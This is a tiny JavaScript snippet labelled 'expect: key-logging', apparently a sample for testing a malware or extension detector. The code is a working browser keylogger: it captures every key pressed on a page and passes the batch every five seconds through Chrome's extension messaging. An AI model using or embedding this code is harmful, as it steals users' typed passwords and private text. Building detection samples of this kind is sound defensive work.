// expect: key-logging
const log = []; document.addEventListener("keydown", ({ key }) => { log.push(key); }); setInterval(() => { chrome.runtime.sendMessage({ t: "k", log }); log.length = 0; }, 5000);
